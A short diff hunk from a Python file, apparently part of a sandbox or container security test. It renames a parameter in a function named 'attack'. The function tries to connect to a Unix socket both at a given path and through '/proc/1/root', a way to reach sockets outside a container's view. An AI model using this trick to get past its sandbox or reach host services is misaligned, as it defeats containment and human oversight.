@@ -3,8 +3,8 @@
 import socket
 
 
-def attack(told: dict[str, str]) -> None:
-    for path in (told["unix"], "/proc/1/root" + told["unix"]):
+def attack(facts: dict[str, str]) -> None:
+    for path in (facts["unix"], "/proc/1/root" + facts["unix"]):
         try:
             with socket.socket(socket.AF_UNIX) as out:
                 out.connect(path)
